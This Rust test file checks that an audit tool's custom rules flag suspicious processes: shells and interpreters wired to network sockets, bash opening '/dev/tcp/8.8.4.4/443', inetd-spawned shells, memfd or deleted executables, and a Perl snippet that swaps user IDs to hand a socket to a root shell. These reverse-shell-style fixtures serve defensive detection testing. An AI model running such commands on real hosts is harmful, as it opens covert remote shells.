//! Processes that are odd in themselves.

use std::process::Stdio;

use serde_json::Value;

use super::{Group, Host, Process, line, of, stdio, story};

/// Waits for ever at standard input.
const WAIT: [&str; 2] = ["-c", "read -r line"];

/// Its number, as the processes of its host are counted.
fn pid(process: &Process) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", process.0.id())).unwrap();
    let numbers = status.lines().find_map(|line| line.strip_prefix("NSpid:")).unwrap();
    numbers.split_whitespace().next_back().unwrap().parse().unwrap()
}

/// The connection of this process.
fn held_by(process: &Process) -> impl Fn(&Value) -> bool {
    let pid = pid(process);
    move |line| line["pid"] == pid && line["event"].as_str().is_some_and(|event| event.ends_with("_new"))
}

#[test]
fn a_shell_that_takes_its_commands_from_the_network_wakes_somebody() {
    let Some(host) = Host::known() else { return };
    let mut told = story("custom-audit/shells");
    let listener = host.listener("8.8.4.4:443");
    let local = host.listener("127.0.0.1:8000");

    for (to, what) in [(&listener, "to a public address"), (&local, "to this host itself")] {
        let [input, output] = stdio(&host.connected(to));
        let shell = host.process("sh", &WAIT, input, output);
        host.becomes(&shell, "sh");
        let run = host.look(&[]);
        let line = line(&run, held_by(&shell));
        told.line(
            &line,
            100_450,
            &format!("a shell, {what}; not 100451, 100452, 100453, 100463, 100455, 100301"),
        );
    }
    let [input, output] = stdio(&host.connected(&listener));
    let perl = host.process("perl", &["-e", "<STDIN>"], input, output);
    host.becomes(&perl, "perl");
    let run = host.look(&[]);
    told.line(&line(&run, held_by(&perl)), 100_451, "an interpreter; not 100450, 100452, 100453");
    // With --full it is said again and again.
    let run = host.look(&["--full"]);
    let open = |line: &Value| line["event"] == "conn_open" && line["pid"] == pid(&perl);
    told.line(&line(&run, open), 100_451, "an interpreter, with --full; not 100306");
    drop(perl);
    let [input, output] = stdio(&host.connected(&listener));
    let sleep = host.process("sleep", &["60"], input, output);
    host.becomes(&sleep, "sleep");
    let run = host.look(&[]);
    told.line(&line(&run, held_by(&sleep)), 100_453, "something else; not 100450, 100451, 100454");
    drop(sleep);

    // Not as standard input or output.
    let script = "exec 8<>/dev/tcp/8.8.4.4/443; read -r line";
    let shell = host.process("bash", &["-c", script], Stdio::piped(), Stdio::null());
    let has = || std::fs::read_link(format!("/proc/{}/fd/8", shell.0.id())).is_ok();
    assert!(harness::eventually(std::time::Duration::from_secs(5), has), "bash has no connection");
    let run = host.look(&[]);
    told.line(&line(&run, held_by(&shell)), 100_455, "a shell with a connection; not 100450, 100453");
    drop(shell);
    let script = "exec 8<>/dev/tcp/8.8.4.4/443; sleep 60; :";
    let shell = host.process("bash", &["-c", script], Stdio::null(), Stdio::null());
    let run = std::cell::RefCell::new(None);
    let both = || {
        let look = host.look(&["--full"]);
        let own = look
            .named("conn_open")
            .into_iter()
            .any(|line| line["holders"] == 2 && line["process_name"] == "bash");
        own && run.replace(Some(host.look(&[]))).is_none()
    };
    assert!(
        harness::eventually(std::time::Duration::from_secs(10), both),
        "bash did not hand its connection on"
    );
    let run = run.take().unwrap();
    told.line(&line(&run, held_by(&shell)), 100_301, "a shell whose connection others have too; not 100455");
    drop(shell);
    told.end();
}

/// A shell that is called as inetd is, and starts others.
const INETD: &str = "/usr/local/sbin/xinetd";

#[test]
fn what_inetd_starts_for_a_connection_is_told_from_that() {
    let Some(host) = Host::known() else { return };
    let mut told = story("custom-audit/inetd");
    let shell = std::fs::canonicalize("/bin/sh").unwrap();
    host.room.install(&shell.to_string_lossy(), INETD);
    for (at, from, rule, why) in [
        ("10.1.2.3:6556", "10.1.2.4:0", 100_452, "a script that inetd started, from the network; not 100450"),
        ("8.8.4.4:6556", "9.9.9.9:0", 100_450, "the same from a public address; not 100452"),
    ] {
        let listener = host.listener(at);
        let client = host.actor("/usr/local/sbin/monitor", &[&format!("c=connect {at} {from}")]);
        let (socket, _) = listener.accept().unwrap();
        let [input, output] = stdio(&socket.into());
        let inetd = host.process(
            INETD,
            &["-c", "exec 3<&0; bash -c 'read -r line' <&3 3<&- & exec </dev/null >/dev/null 3<&-; wait"],
            input,
            output,
        );
        let run = until(&host, "bash");
        told.line(&line(&run, of("conn_new", "/bash")), rule, why);
        drop((inetd, client));
    }
    let listener = host.listener("10.1.2.3:7000");
    let client = host.actor("/usr/local/sbin/monitor", &["c=connect 10.1.2.3:7000 10.1.2.4:0"]);
    let (socket, _) = listener.accept().unwrap();
    let [input, output] = stdio(&socket.into());
    let inetd = host.process(
        INETD,
        &["-c", "exec 3<&0; sleep 60 <&3 3<&- & exec </dev/null >/dev/null 3<&-; wait"],
        input,
        output,
    );
    let run = until(&host, "sleep");
    told.line(&line(&run, of("conn_new", "/sleep")), 100_454, "a service that inetd started; not 100453");
    drop((inetd, client));
    told.end();
}

/// Each connection becomes the standard input and output of a child.
const SERVER: &str = "use IO::Socket::INET;
    my $l = IO::Socket::INET->new(Listen => 5, LocalAddr => '10.1.2.3:4949') or die;
    while (my $c = $l->accept) {
        if (!fork) { open(STDIN, '<&', $c); open(STDOUT, '>&', $c); close $c; close $l; sleep 60; exit }
        close $c;
    }";

#[test]
fn a_service_that_serves_by_standard_input_is_told_from_that() {
    let Some(service) = Group::new("munin-node.service") else { return };
    let mut told = story("custom-audit/net-server");
    for (entering, rule, why) in [
        (
            format!("echo 0 >'{}/cgroup.procs' && ", service.path),
            100_470,
            "a service in Perl; not 100451, 100452",
        ),
        (String::new(), 100_451, "the same of no service; not 100470"),
    ] {
        // With it go the server's children.
        let Some(host) = Host::known() else { return };
        let script = format!("{entering}exec perl -e \"$1\"");
        let _server = host.process("sh", &["-c", &script, "sh", SERVER], Stdio::null(), Stdio::null());
        let listens = || host.room.sh("cat /proc/net/tcp").contains(":1355 00000000:0000 0A");
        assert!(harness::eventually(std::time::Duration::from_secs(10), listens), "perl does not listen");
        let _client = host.actor("/usr/local/sbin/monitor", &["c=connect 10.1.2.3:4949 10.1.2.4:0"]);
        let run = until(&host, "perl");
        told.line(&line(&run, of("conn_new", "/perl")), rule, why);
    }
    told.end();
}

/// Looks when a process of this name alone has its connection: the one that
/// started it has let go.
fn until(host: &Host, name: &str) -> harness::wodle::Run {
    let alone = || {
        let look = host.look(&["--full"]);
        let all = look.named("conn_open");
        all.iter()
            .any(|line| line["process_name"] == name && line["holders"] == 1 && line["stdio_socket"] == true)
    };
    assert!(
        harness::eventually(std::time::Duration::from_secs(10), alone),
        "{name} has no connection of its own: {}",
        host.look(&["--full"]).text()
    );
    host.look(&[])
}

#[test]
fn a_program_that_is_no_file_any_more_is_told() {
    let Some(service) = Group::new("old.service") else { return };
    let Some(host) = Host::known() else { return };
    let mut told = story("custom-audit/executables");
    let listen = ["l=listen 127.0.0.1:0"];

    let inner = host.actor("/usr/local/sbin/x", &["memfd x", listen[0]]);
    let tmp = host.actor("/var/tmp/updated", &listen);
    let gone = host.actor("/usr/local/sbin/gone", &listen);
    let old = host.grouped(&service, "/usr/local/sbin/old", &listen);
    let new = host.actor("/usr/local/sbin/new", &listen);
    host.room.sh("rm /usr/local/sbin/gone /usr/local/sbin/old /var/tmp/updated
        echo upgraded >/usr/local/sbin/new.dpkg && mv /usr/local/sbin/new.dpkg /usr/local/sbin/new");
    let run = host.look(&[]);
    let memfd = |line: &Value| line["event"] == "listen_new" && line["exe_location"] == "memfd";
    told.line(&line(&run, memfd), 100_456, "never was a file; not 100457, 100458, 100304");
    told.line(
        &line(&run, of("listen_new", "/updated")),
        100_457,
        "where anybody may write; not 100456, 100458, 100461",
    );
    told.line(
        &line(&run, of("listen_new", "/gone")),
        100_458,
        "its file is gone; not 100457, 100459, 100460",
    );
    told.line(
        &line(&run, of("listen_new", "/old")),
        100_459,
        "its file is gone, a service; not 100458, 100460",
    );
    told.line(&line(&run, of("listen_new", "/new")), 100_460, "its file was replaced; not 100458");
    let run = host.look(&["--full"]);
    let open = |name: &'static str| {
        move |line: &Value| {
            line["event"] == "listen_open" && line["exe"].as_str().is_some_and(|exe| exe.ends_with(name))
        }
    };
    told.line(&line(&run, open("/gone")), 100_458, "its file is gone, with --full; not 100306");
    drop((inner, tmp, gone, old, new));
    let plain = host.actor("/usr/local/sbin/plain", &listen);
    let run = host.look(&["--full"]);
    told.line(
        &line(&run, open("/plain")),
        100_306,
        "with --full: silent; not 100456, 100457, 100458, 100460, 100304",
    );
    drop(plain);
    told.end();
}

/// Makes a connection as nobody, becomes root again, and something else.
const RISE: &str = "use Socket; $> = 65534; socket(S, PF_INET, SOCK_STREAM, 0) or die; \
     connect(S, sockaddr_in(443, inet_aton('8.8.4.4'))) or die; $> = 0; $^F = 99; \
     open(T, '+>&S') or die; exec @ARGV";

#[test]
fn a_socket_of_another_user_in_roots_hands_is_told() {
    let Some(service) = Group::new("split.service") else { return };
    let Some(host) = Host::known() else { return };
    let mut told = story("custom-audit/mismatch");
    let listener = host.listener("8.8.4.4:443");
    let steps = [
        "uids 0 65534 0",
        "c=connect 8.8.4.4:443 9.9.9.9:0",
        "uids 0 0 0",
        "d=connect 8.8.4.4:443 9.9.9.9:0",
    ];
    let tool = host.actor("/usr/local/sbin/tool", &steps);
    let split = host.grouped(&service, "/usr/local/sbin/split", &steps);
    let run = host.look(&[]);
    let made = |name: &'static str, uid: u32| {
        move |line: &Value| of("conn_new", name)(line) && line["socket_uid"] == uid
    };
    told.line(&line(&run, made("/tool", 65534)), 100_462, "made by another user; not 100463, 100464");
    told.line(&line(&run, made("/tool", 0)), 100_324, "made by root; not 100462, 100463");
    told.line(
        &line(&run, made("/split", 65534)),
        100_464,
        "made by another user, a service; not 100462, 100463",
    );
    drop((tool, split));
    let shell =
        host.process("perl", &["-e", RISE, "sh", "-c", "read -r line"], Stdio::piped(), Stdio::null());
    host.becomes(&shell, "sh");
    let run = host.look(&[]);
    told.line(&line(&run, held_by(&shell)), 100_463, "a shell that became root; not 100462, 100455");
    drop((shell, listener));
    told.end();
}
